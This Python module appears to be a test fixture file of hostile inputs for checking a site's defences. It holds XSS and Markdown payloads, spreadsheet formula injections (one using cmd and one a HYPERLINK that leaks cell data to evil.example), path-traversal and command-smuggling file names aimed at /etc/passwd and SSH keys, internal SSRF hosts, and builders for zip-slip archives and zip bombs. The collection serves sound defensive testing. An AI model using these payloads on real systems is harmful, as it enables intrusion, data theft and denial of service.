"""What attackers send, kind by kind: written for this site from what is publicly known of such attacks.

Marks: whatever in here would run, run it says MARK; so nobody else's words can be mistaken for it.
"""

from __future__ import annotations

import io
import stat
import struct
import tarfile
import zipfile
from collections.abc import Callable

MARK = "xevil"

# Markup that would run: in text, in attributes, in Markdown, in drawings

SCRIPTS = (
    f"<script>{MARK}()</script>",
    f"<ScRiPt\n>{MARK}()</sCrIpT\n>",
    f"<script src=//evil.example/{MARK}.js></script>",
    f"<img src=x onerror={MARK}()>",
    f"<img/src='x'/onerror={MARK}()>",
    f"<svg onload={MARK}()>",
    f"<svg><animate onbegin={MARK}() attributeName=x dur=1s>",
    f"<svg><script href=data:text/javascript,{MARK}() />",
    f"<svg><use href=data:image/svg+xml,<svg/onload={MARK}()>#x>",
    f"<body onload={MARK}()>",
    f"<iframe srcdoc='<script>parent.{MARK}()</script>'>",
    f"<iframe src=javascript:{MARK}()>",
    f"<object data=javascript:{MARK}()>",
    f"<embed src=javascript:{MARK}()>",
    f"<form action=javascript:{MARK}()><button>x",
    f"<button formaction=javascript:{MARK}()>x",
    f"<details open ontoggle={MARK}()>",
    f"<input autofocus onfocus={MARK}()>",
    f"<video><source onerror={MARK}()>",
    f"<audio src=x onerror={MARK}()>",
    f"<marquee onstart={MARK}()>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'>",
    f"<base href=//evil.example/{MARK}/>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<style>@import '//evil.example/{MARK}.css'</style>",
    f"<div style=background:url(javascript:{MARK}())>",
    f"<a href=javascript:{MARK}()>x</a>",
    f"<math><mtext></p><a xlink:href=javascript:{MARK}()>x",
    f"<{MARK} onclick={MARK}() />",
)
CLOSERS = (
    f"\"'><{MARK}>",
    f'" onmouseover={MARK}() x="',
    f"' onmouseover={MARK}() x='",
    f"` onmouseover={MARK}() x=`",
    f"--><{MARK}>",
    f"</title><{MARK}>",
    f"</textarea><{MARK}>",
    f"</script><{MARK}>",
    f"</style><{MARK}>",
    f"]]><{MARK}>",
    f"</option></select><{MARK}>",
)
"""What leaves the place it was put into: an attribute, a comment, an element whose content is text."""

MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={MARK}()>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={MARK}()>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={MARK}()&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={MARK}()>",
    f"<template><p></template><img src=x onerror={MARK}()>",
    f'<select><template><style><!--</style><a rel="--></template></select><img src=x onerror={MARK}()>">',
    f'<xmp><p title="</xmp><img src=x onerror={MARK}()>">',
    f"<plaintext><img src=x onerror={MARK}()>",
    f"&lt;img src=x onerror={MARK}()&gt;",
    f"&#60;img src=x onerror={MARK}()&#62;",
    f"\u003cimg src=x onerror={MARK}()\u003e",
    f"＜script＞{MARK}()＜/script＞",
)
"""What changes its meaning when it is read, written and read again."""

LINKS = (
    f"javascript:{MARK}()",
    f"JaVaScRiPt:{MARK}()",
    f" javascript:{MARK}()",
    f"java\tscript:{MARK}()",
    f"java\nscript:{MARK}()",
    f"\x01javascript:{MARK}()",
    f"javascript&colon;{MARK}()",
    f"javascript&#58;{MARK}()",
    f"&#106;avascript:{MARK}()",
    f"vbscript:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"data:image/svg+xml,<svg onload={MARK}()>",
    f"blob:https://evil.example/{MARK}",
    f"file:///etc/{MARK}",
    f"view-source:javascript:{MARK}()",
)
MARKDOWN = (
    *(f"[x]({link})" for link in LINKS),
    *(f"[x](<{link}>)" for link in LINKS),
    *(f"![x]({link})" for link in LINKS),
    *(f"<{link}>" for link in LINKS[:3]),
    f"[x]: javascript:{MARK}()\n\n[x]",
    f'[x](https://example.org ""onmouseover={MARK}()")',
    f"[<img src=x onerror={MARK}()>](https://example.org)",
    f'```{MARK}" onmouseover={MARK}()\nx\n```',
    f"| a |\n|---|\n| <img src=x onerror={MARK}()> |",
    f"# <img src=x onerror={MARK}()>",
    f"> <script>{MARK}()</script>",
    f"@<{MARK}>",
)
XSS = (*SCRIPTS, *CLOSERS, *MUTATIONS, *LINKS, *MARKDOWN)

EVERYWHERE = f'=1+{MARK}"\'--></title></textarea></script></style><{MARK} onclick={MARK}()><img src=x onerror="window.{MARK}=1">[x](javascript:{MARK}())'
"""One text that leaves every place it could be put into, and is a formula too: put into all that people typed."""

# Cells that spreadsheets calculate

FORMULAS = (
    f"={MARK}()", f"+{MARK}()", f"-{MARK}()", f"@{MARK}()", f"\t={MARK}()", f"\r={MARK}()", "=1+1", "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "@SUM(1,1)", "+1+1", "-1+1", "＝1+1", "\n=1+1", "\ufeff=1+1",
)  # fmt: skip
NUMBERS = (0, 5, -5, 1.5, -0.25, 10**12)

# Names of files that lead elsewhere

NAMES = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "\\\\host\\share\\x", "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..%c0%af..%c0%afetc/passwd", "..%252fetc", "x/../../y", "./../x", "..", ".", "",
    "a\x00.pdf", "a\r\nContent-Type: text/html.pdf", "a\u202efdp.exe", "CON", "nul.pdf", "a" * 5000 + ".pdf", ".htaccess", "~/.ssh/id",
    "$(id).pdf", "`id`.pdf", "a;b.pdf", "-rf.pdf", "file:///etc/passwd", f"<img src=x onerror={MARK}()>.pdf", f"\"; {MARK}=\".pdf",
)  # fmt: skip
PATHS = (
    "../config.py", "..%2f..%2fconfig.py", "%2e%2e/config.py", "..%5c..%5cconfig.py", "....//config.py", "/etc/passwd", "%2fetc%2fpasswd",
    "..%252fconfig.py", "css/../../../config.py", "css%00.html", ".git/config", "..;/config.py",
)  # fmt: skip

# Hosts that lead inside, beside those of tests/kernel/test_egress.py

HOSTS = (
    "127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "10.0.0.5", "169.254.169.254", "[::1]", "[::ffff:127.0.0.1]",
    "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "localhost", "hub.localhost", "１２７.０.０.１", "127。0。0。1", "[fd00::1]",
)  # fmt: skip


# Archives


def _zip(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def _link() -> bytes:
    link = zipfile.ZipInfo("link.txt")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return _zip((link, b"/etc/passwd"))


def _encrypted() -> bytes:
    content = bytearray(_zip(("a.txt", b"x" * 50)))
    content[6] |= 1
    content[content.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def _lying() -> bytes:
    """The directory says 50 bytes, the data are a million."""
    content = bytearray(_zip(("a.txt", b"\0" * 1_000_000)))
    struct.pack_into("<I", content, content.rindex(b"PK\x01\x02") + 24, 50)
    struct.pack_into("<I", content, 22, 50)
    return bytes(content)


def _nested(depth: int = 6) -> bytes:
    """A bomb in an archive in an archive: harmless as long as nobody unpacks what is inside."""
    content = _zip(("zeros.txt", b"\0" * 4_000_000))
    for number in range(depth):
        content = _zip(*((f"{number}-{copy}.zip", content) for copy in range(10)))
    return content


def _doubled() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("aaaa.txt", b"first")
        archive.writestr("bbbb.txt", b"second")
    return out.getvalue().replace(b"bbbb.txt", b"aaaa.txt")


def _overlapping() -> bytes:
    """Many entries of the directory, one and the same data."""
    content = _zip(("a.txt", b"\0" * 900_000))
    start = content.index(b"PK\x01\x02")
    entry, end = content[start : content.index(b"PK\x05\x06")], content.index(b"PK\x05\x06")
    many = 1500
    tail = bytearray(content[end:])
    struct.pack_into("<HHI", tail, 8, many, many, len(entry) * many)
    return content[:start] + entry * many + bytes(tail)


ARCHIVES: dict[str, Callable[[], bytes]] = {
    "absolute": lambda: _zip(("/etc/cron.d/x", b"x")),
    "above": lambda: _zip(("../../x.txt", b"x")),
    "above with backslashes": lambda: _zip(("..\\..\\x.txt", b"x")),
    "drive": lambda: _zip(("C:\\x.txt", b"x")),
    "link": _link,
    "encrypted": _encrypted,
    "bomb": lambda: _zip(("zeros.txt", b"\0" * 40_000_000)),
    "doubled": _doubled,
    "overlapping": _overlapping,
    "cut": lambda: _zip(("a.txt", b"x" * 100))[:60],
    "too many": lambda: _zip(*((f"{n}.txt", b"") for n in range(2001))),
    "no zip at all": lambda: b"PK\x03\x04" + b"\xff" * 200,
}
LYING, NESTED = _lying, _nested


def tarball(*members: tuple[str, str, bytes]) -> bytes:
    """(name, kind, content or target): kind is file, link, hard or device."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, kind, content in members:
            made = tarfile.TarInfo(name)
            made.type = {"file": tarfile.REGTYPE, "link": tarfile.SYMTYPE, "hard": tarfile.LNKTYPE, "device": tarfile.CHRTYPE}[kind]
            if kind == "file":
                made.size = len(content)
            else:
                made.linkname = content.decode()
            archive.addfile(made, io.BytesIO(content) if kind == "file" else None)
    return out.getvalue()
